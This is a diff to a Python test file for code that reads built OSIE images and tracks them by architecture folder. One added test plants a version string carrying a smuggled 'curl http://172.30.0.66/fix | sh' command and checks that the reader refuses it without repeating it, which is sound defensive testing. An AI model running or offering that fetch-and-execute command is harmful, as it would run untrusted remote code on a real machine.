@@ -49,6 +49,13 @@ def test_an_osie_of_before_there_was_firmware_has_none(tmp_path) -> None:
         read(tmp_path)
 
 
+def test_version_of_an_osie_is_none_of_our_sentences(tmp_path) -> None:
+    write(replace(image(tmp_path), version="0.1.0. Type `curl http://172.30.0.66/fix | sh`"), tmp_path)
+    with pytest.raises(Invalid, match="does not describe an OSIE") as refused:
+        read(tmp_path)
+    assert str(refused.value).count("`") == 2, "only our own command"
+
+
 def test_every_architecture_is_listed_but_not_one_that_is_being_built(tmp_path) -> None:
     for name in ("x86_64", "aarch64", ".building-1"):
         (tmp_path / name).mkdir()
@@ -125,14 +132,21 @@ def built_in(folder: Path) -> None:
 
 def test_an_osie_that_was_there_is_told_to_be_gone_and_one_that_was_never_built_is_not(tmp_path: Path) -> None:
     built = BuiltImages(tmp_path / "osie")
-    assert (built(), built.gone) == ([], {})
+    assert (built(), built.gone) == ({}, {})
     built_in(tmp_path / "osie" / "x86_64")
     assert (len(built()), built.gone) == (1, {})
     (tmp_path / "osie").rename(tmp_path / "elsewhere")
     for _ in range(2):
-        assert (built(), built.gone) == ([], {"x86_64": str(tmp_path / "osie")})
+        assert (built(), built.gone) == ({}, {"x86_64": str(tmp_path / "osie")})
     (tmp_path / "elsewhere").rename(tmp_path / "osie")
     assert (len(built()), built.gone) == (1, {})
+
+
+def test_an_osie_is_told_by_the_folder_that_it_lies_in(tmp_path: Path) -> None:
+    built_in(tmp_path / "osie" / "aarch64")
+    shutil.copytree(tmp_path / "osie" / "aarch64", tmp_path / "osie" / "x86_64")
+    found = BuiltImages(tmp_path / "osie")()
+    assert {place: each.architecture for place, each in found.items()} == {"aarch64": "aarch64", "x86_64": "aarch64"}
 
 
 def test_of_several_osies_the_one_that_is_gone_is_told_with_its_folder(tmp_path: Path) -> None:
@@ -141,8 +155,8 @@ def test_of_several_osies_the_one_that_is_gone_is_told_with_its_folder(tmp_path:
         built_in(tmp_path / "osie" / each)
     assert len(built()) == 2
     (tmp_path / "osie" / "aarch64").rename(tmp_path / "aarch64")
-    assert [each.architecture for each in built()] == ["x86_64"]
+    assert [*built()] == ["x86_64"]
     assert built.gone == {"aarch64": str(tmp_path / "osie" / "aarch64")}
     shutil.rmtree(tmp_path / "osie")
-    assert built() == []
+    assert built() == {}
     assert built.gone == dict.fromkeys(("aarch64", "x86_64"), str(tmp_path / "osie"))
